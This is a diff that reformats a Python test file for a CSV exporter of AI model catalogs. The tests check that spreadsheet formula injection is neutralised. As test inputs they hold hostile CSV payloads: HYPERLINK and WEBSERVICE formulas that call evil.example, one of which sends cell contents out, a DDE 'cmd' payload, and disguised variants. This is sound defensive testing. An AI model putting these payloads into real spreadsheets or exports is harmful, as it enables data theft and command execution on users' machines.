@@ -10,15 +10,15 @@ import subprocess
 import sys
 
 import pytest
-
 from factories import model, shared_catalog
+
 from vision_models import export_csv, fetch_vision_models
 from vision_models.catalog.api import models_frame
 from vision_models.present.export import to_csv_text
 
 VISION = ("text", "image")
 HOSTILE = {
-    "=HYPERLINK(\"http://evil.example\",\"click\")": "'=HYPERLINK(\"http://evil.example\",\"click\")",
+    '=HYPERLINK("http://evil.example","click")': '\'=HYPERLINK("http://evil.example","click")',
     "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
     "-2+3": "'-2+3",
     "@SUM(1+1)": "'@SUM(1+1)",
@@ -55,8 +55,16 @@ def test_safe_false_keeps_text_as_it_came():
 
 def test_units_lists_dates_and_utf8(tmp_path):
     frame = models_frame(
-        [model("openai/gpt-4o", name="GPT-4o ✓", prompt="0.0000025", completion="0.00001", inputs=("text", "image", "file"),
-               pricing={"prompt": "0.0000025", "completion": "0.00001", "image": "0.0000001"})]
+        [
+            model(
+                "openai/gpt-4o",
+                name="GPT-4o ✓",
+                prompt="0.0000025",
+                completion="0.00001",
+                inputs=("text", "image", "file"),
+                pricing={"prompt": "0.0000025", "completion": "0.00001", "image": "0.0000001"},
+            )
+        ]
     )
     path = export_csv(frame, tmp_path / "out.csv")
     raw = path.read_bytes()
@@ -75,7 +83,7 @@ def test_real_catalog_with_a_planted_formula_name(tmp_path):
     source = shared_catalog("openrouter-2026-05-01.json")
     data = json.loads(source.read_text())
     victim = next(m for m in data["data"] if m["id"] == "openai/gpt-4o")
-    victim["name"] = "=WEBSERVICE(\"http://evil.example/?\"&A1)"
+    victim["name"] = '=WEBSERVICE("http://evil.example/?"&A1)'
     victim["description"] = "@now read this"
     planted = tmp_path / "planted.json"
     planted.write_text(json.dumps(data))
@@ -83,7 +91,7 @@ def test_real_catalog_with_a_planted_formula_name(tmp_path):
     export_csv(fetch_vision_models(planted).models, out)
     rows = {r["id"]: r for r in _rows(out.read_text(encoding="utf-8"))}
     assert len(rows) == 166  # the catalog README's vision count (strict rules, the default)
-    assert rows["openai/gpt-4o"]["name"] == "'=WEBSERVICE(\"http://evil.example/?\"&A1)"
+    assert rows["openai/gpt-4o"]["name"] == '\'=WEBSERVICE("http://evil.example/?"&A1)'
     assert rows["openai/gpt-4o"]["description"] == "'@now read this"
     risky = [v for r in rows.values() for v in r.values() if v and v[0] in "=+@\t\r\n"]
     assert risky == []
@@ -94,7 +102,9 @@ def test_cli_export_writes_the_filtered_models_without_secrets(tmp_path):
     env = {**os.environ, "OPENROUTER_API_KEY": "sk-or-v1-never-in-a-file"}
     done = subprocess.run(
         [sys.executable, "-m", "vision_models.cli", "export", str(out), "--source", "sample", "--provider", "openai"],
-        capture_output=True, text=True, env=env,
+        capture_output=True,
+        text=True,
+        env=env,
     )
     assert done.returncode == 0, done.stderr
     assert done.stdout == ""
@@ -108,8 +118,17 @@ def test_cli_export_writes_the_filtered_models_without_secrets(tmp_path):
 
 def test_cli_export_to_an_unwritable_place_is_exit_2(tmp_path):
     done = subprocess.run(
-        [sys.executable, "-m", "vision_models.cli", "export", str(tmp_path / "no" / "such" / "dir.csv"), "--source", "sample"],
-        capture_output=True, text=True,
+        [
+            sys.executable,
+            "-m",
+            "vision_models.cli",
+            "export",
+            str(tmp_path / "no" / "such" / "dir.csv"),
+            "--source",
+            "sample",
+        ],
+        capture_output=True,
+        text=True,
     )
     assert done.returncode == 2 and done.stdout == ""
     assert done.stderr.strip().splitlines()[-1].startswith("vision-models: cannot write")
@@ -132,7 +151,12 @@ def test_new_frame_fields_reach_csv_and_json():
         [
             model(
                 "a/b",
-                pricing={"prompt": "0.000001", "completion": "0.000002", "input_cache_read": "0.0000001", "discount": 0.1},
+                pricing={
+                    "prompt": "0.000001",
+                    "completion": "0.000002",
+                    "input_cache_read": "0.0000001",
+                    "discount": 0.1,
+                },
                 supported_parameters=["=cmd", "response_format"],  # remote text: a formula is neutralised
                 expiration_date="2026-06-01",
             )
@@ -164,7 +188,7 @@ DISGUISED = {
     "\uff0d1": "'\uff0d1",  # full-width -
     "\uff20SUM(A1)": "'\uff20SUM(A1)",  # full-width @
     "\x00=1": "'\x00=1",  # NUL first
-    "harmless;=HYPERLINK(\"http://evil.example\")": "harmless;'=HYPERLINK(\"http://evil.example\")",
+    'harmless;=HYPERLINK("http://evil.example")': 'harmless;\'=HYPERLINK("http://evil.example")',
     "a; -2+3;b": "a;' -2+3;b",
     "semi;colons;only": "semi;colons;only",
     "x=1, y+2 @ home": "x=1, y+2 @ home",
@@ -218,7 +242,9 @@ def _text_dtypes() -> list:
 def test_formulas_are_neutralised_in_every_text_dtype_and_in_categoricals(dtype):
     import pandas as pd
 
-    frame = pd.DataFrame({"id": ["a", "b", "c", "d"], "text": pd.Series(["=cmd()", " @SUM(A1)", "plain", None], dtype=dtype)})
+    frame = pd.DataFrame(
+        {"id": ["a", "b", "c", "d"], "text": pd.Series(["=cmd()", " @SUM(A1)", "plain", None], dtype=dtype)}
+    )
     rows = _rows(to_csv_text(frame))
     assert [r["text"] for r in rows] == ["'=cmd()", "' @SUM(A1)", "plain", ""]  # written by hand from the rule above
 
@@ -234,13 +260,7 @@ def test_a_categorical_of_text_categories_is_neutralised_and_one_of_numbers_stay
         }
     )
     text = to_csv_text(frame)
-    assert text == (
-        "label,price,count\r\n"
-        "'+1,-1.5,-3\r\n"
-        "ok,0.00000025,4\r\n"
-        "'+1,-1.5,\r\n"
-        "'-2+3,,4\r\n"
-    )
+    assert text == ("label,price,count\r\n'+1,-1.5,-3\r\nok,0.00000025,4\r\n'+1,-1.5,\r\n'-2+3,,4\r\n")
 
 
 def test_negative_numbers_in_numeric_columns_are_not_formulas():
